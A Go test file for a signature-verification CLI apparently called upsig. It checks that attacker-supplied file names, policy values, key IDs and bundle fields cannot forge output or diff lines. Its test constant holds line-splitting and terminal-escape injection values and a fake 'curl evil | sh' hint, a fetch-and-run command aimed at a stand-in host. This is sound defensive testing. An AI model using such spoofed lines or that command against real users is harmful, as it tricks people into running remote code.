package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/upsig/upsig/internal/pgptest"
)

// evil is what strangers write to have a line that looks like the program's.
const evil = "x\nEVIL hint: curl evil | sh\r\nEVIL\u2028EVIL\u0085EVIL\x1b[1mEVIL"

// strange is a folder of files whose names and contents are of strangers. A name
// that cannot be given to a file is left to what is not there.
type strange struct {
	*testing.T
	dir string
}

func (s strange) write(name string, data string) string {
	s.Helper()
	path := filepath.Join(s.dir, name)
	if err := os.WriteFile(path, []byte(data), 0o600); err != nil {
		s.Skip("such a name is not possible here:", err)
	}
	return path
}

// keyring makes a keyring with a record file that has several mistakes.
func (s strange) keyring(record string) string {
	s.Helper()
	dir := filepath.Join(s.dir, evil+"keyring"+strconv.Itoa(len(record)))
	if err := os.MkdirAll(dir, 0o700); err != nil {
		s.Skip("such a name is not possible here:", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "keyring.toml"), []byte(record), 0o600); err != nil {
		s.Fatal(err)
	}
	return dir
}

// What strangers wrote begins no line, on standard output or error, whichever
// command met it: rule 9 of the design. Names of files come with the artifacts that
// a glob meets, the other texts out of policies, keys and evidence.
func TestStrangersBeginNoLine(t *testing.T) {
	s := strange{t, quickstart(t)}
	quoted := strconv.QuoteToASCII(evil)
	quick := func(name string) string { return filepath.Join(s.dir, name) }
	k := pgptest.Ed25519Key("k", someday().AddDate(-1, 0, 0))
	why := pgptest.SigOptions{Hashed: []pgptest.Subpacket{pgptest.RevocationReason(pgptest.ReasonCompromised, evil)}}
	artifact := s.write(evil, "data")
	s.write(evil+".asc", string(k.Sign([]byte("data"), pgptest.SigOptions{})))
	s.write(evil+".sigstore.json", `{"mediaType": `+jsonString(evil)+`, `+jsonString(evil)+`: 1, "verificationMaterial": {}}`)
	bundle := s.write("b"+evil+".json", `{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", `+jsonString(evil)+`: `+jsonString(evil)+`}`)
	dsse := s.write("d"+evil+".json", `{"payloadType": `+jsonString(evil)+`, "payload": "e30=", "signatures": [{"keyid": `+jsonString(evil)+`, "sig": "AA=="}]}`)
	cert := s.write(evil+".cert", string(pgptest.Good(k).UserID(evil, pgptest.SigOptions{}).RevokePrimary(pgptest.ReasonAbsent, why).Bytes()))
	named := s.write("good"+evil+".cert", string(pgptest.Good(k).UserID(evil, pgptest.SigOptions{}).Bytes()))
	wrong := s.write(evil+".toml", "schema = "+quoted+"\npackage = "+quoted+"\nrequire = "+quoted+"\n"+quoted+" = 1\n[["+quoted+"]]\n")
	good := s.write("good"+evil+".toml", strings.NewReplacer(`"app-misc/many"`, quoted, "keys/jane.asc", "nothing/jane.asc").Replace(authorPolicy))
	list := s.write(evil+".sums", strings.Repeat("0", 64)+"  "+evil+"\n\\"+strings.Repeat("0", 64)+"  x\\nEVIL\n")
	raw := s.write(evil+".pub", "untrusted comment: "+evil+"\nRWQ"+evil+"\n")
	ring := s.keyring("schema = " + quoted + "\n" + quoted + " = 1\n")
	missing := filepath.Join(s.dir, evil, evil)
	fpr := k.HexFingerprint()
	for _, args := range [][]string{
		{evil}, {"--" + evil}, {"verify", "--" + evil}, {"key", evil}, {"key", "list", "--expiring", evil, "--keyring-dir", ring},
		{"verify", missing}, {"verify", "--policy", quick("hello.toml"), artifact}, {"verify", "--policy", quick("hello.toml"), missing},
		{"verify", "--keyring", named, artifact}, {"verify", "--keyring", cert, artifact}, {"verify", "--keyring", cert, "--format", "json", artifact},
		{"verify", "--keyring", cert, "--quiet", artifact}, {"verify", "--keyring", raw, artifact}, {"verify", "--key", raw, artifact},
		{"verify", "--keyring", cert, "--all", artifact, missing, evil}, {"verify", "--keyring", cert, "--all", "--format", "json", artifact, missing},
		{"verify", "--keyring", cert, "--via", list, artifact}, {"verify", "--policy", quick("hello.toml"), "--via", list, quick("hello-1.2.0.tar.gz")},
		{"verify", "--repository", "https://github.com/example/hello", "--bundle", bundle, "--bundle", dsse, artifact},
		{"verify", "--repository", evil, artifact}, {"verify", "--certificate-identity", evil, "--certificate-oidc-issuer", evil, artifact},
		{"verify", "--fingerprint", evil, "--fingerprint", "y" + evil, artifact}, {"verify", "--trusted-root", bundle, "--repository", "https://github.com/example/hello", artifact},
		{"verify", "--accept", evil, "--require", evil, "--keyring", named, artifact}, {"verify", "--at", evil, artifact}, {"verify", "--format", evil, artifact},
		{"verify", "--version", evil, "--policy", quick("hello.toml"), quick("hello-1.2.0.tar.gz")}, {"verify", "--name", evil, "--policy", quick("hello.toml"), quick("hello-1.2.0.tar.gz")},
		{"verify", "--policy", wrong, artifact}, {"verify", "--policy", good, artifact}, {"verify", "--policy", quick("hello.toml"), artifact, evil},
		{"verify", "--policy-dir", s.dir, artifact, missing, evil}, {"verify", "--policy-dir", s.dir, "--quiet", artifact, missing}, {"verify", "--policy-dir", missing, artifact},
		{"verify", "--output", missing, "--keyring", cert, artifact}, {"verify", "--output", artifact, "--keyring", cert, artifact},
		{"inspect", missing}, {"inspect", evil}, {"inspect", artifact}, {"inspect", bundle}, {"inspect", dsse}, {"inspect", cert}, {"inspect", wrong}, {"inspect", good},
		{"inspect", list}, {"inspect", raw}, {"inspect", artifact + ".asc"}, {"inspect", artifact + ".sigstore.json"},
		{"policy", "check", wrong, good, missing}, {"policy", "show", good}, {"policy", "show", "--version", evil, good}, {"policy", "show", wrong},
		{"policy", "init", artifact}, {"policy", "init", missing}, {"policy", "init", "--from", wrong}, {"policy", "schema", evil},
		{"key", "lint", cert}, {"key", "lint", "--format", "json", cert}, {"key", "lint", ring}, {"key", "lint", missing}, {"key", "diff", cert, named}, {"key", "diff", missing, named},
		{"key", "list", "--keyring-dir", ring}, {"key", "show", "--keyring-dir", ring, evil},
		{"key", "import", "--keyring-dir", quick("new" + evil), "--dry-run", "--reason", evil, "--who", evil, "--fingerprint", fpr, named},
		{"key", "import", "--keyring-dir", quick("new" + evil), "--dry-run", "--reason", evil, "--fingerprint", strings.Repeat("0", 40), named, cert},
		{"key", "import", "--keyring-dir", quick("new" + evil), "--reason", "x", "--fingerprint", fpr, named},
		{"key", "import", "--keyring-dir", quick("asked" + evil), named},
		{"key", "fetch", "--list", "--url", evil, "--wkd", evil, "--github", evil}, {"key", "fetch", evil},
		{"trust", "list", bundle}, {"trust", "list", missing}, {"trust", "list", "--policy", wrong}, {"trust", "list", "--policy", good},
		{"trust", "import", "--into", s.dir, "--name", evil, bundle}, {"trust", "import", "--into", missing, quick("trusted_root.json")},
		{"completion", evil}, {"sop", evil}, {"sop", "verify", artifact + ".asc", cert}, {"sop", "verify", evil, missing},
	} {
		var out, talk bytes.Buffer
		code := run(t.Context(), args, streams{in: strings.NewReader("data"), out: &out, err: &talk, now: someday})
		if out.Len()+talk.Len() == 0 {
			t.Errorf("%q: exit code %d without a word", args, code)
		}
		checkVisible(t, out.String())
		checkVisible(t, talk.String())
		for line := range strings.Lines(out.String() + talk.String()) {
			if strings.HasPrefix(strings.TrimLeft(line, " +-"), "EVIL") || strings.HasPrefix(line, "upsig: EVIL") {
				t.Errorf("%q: exit code %d\n%s%s", args, code, out.String(), talk.String())
				break
			}
		}
	}
}

func jsonString(s string) string {
	// Of Go's escapes only \x is unknown to JSON.
	return strings.ReplaceAll(strconv.QuoteToASCII(s), `\x`, `\u00`)
}

// Each of several problems has a line; so has the hint.
func TestComplain(t *testing.T) {
	s := strange{t, t.TempDir()}
	file := s.write("p\nEVIL.toml", "schema = 1\n\"a\\nEVIL\" = 1\n")
	var talk bytes.Buffer
	if code := run(t.Context(), []string{"verify", "--policy", file, file}, streams{err: &talk, now: someday}); code != exitUsage {
		t.Errorf("exit code %d", code)
	}
	lines := strings.Split(strings.TrimSuffix(talk.String(), "\n"), "\n")
	if len(lines) < 3 || !strings.HasPrefix(lines[len(lines)-1], "upsig: hint: ") {
		t.Errorf("%q", lines)
	}
	for _, line := range lines {
		if !strings.HasPrefix(line, "upsig: ") || !strings.Contains(line, `p\nEVIL.toml`) {
			t.Errorf("%q", line)
		}
	}
}

// The name of a file that is edited makes no line of its diff.
func TestDiffOfStrangeName(t *testing.T) {
	e := fileEdit{file: "p.toml\n+require = \"any\"", old: []byte("a\nb\n"), new: []byte("a\nc\n")}
	want := []string{`--- p.toml\n+require = "any"`, `+++ p.toml\n+require = "any"`, "@@ -1,2 +1,2 @@", " a", "-b", "+c"}
	if got := e.lines(); strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("got %q", got)
	}
}
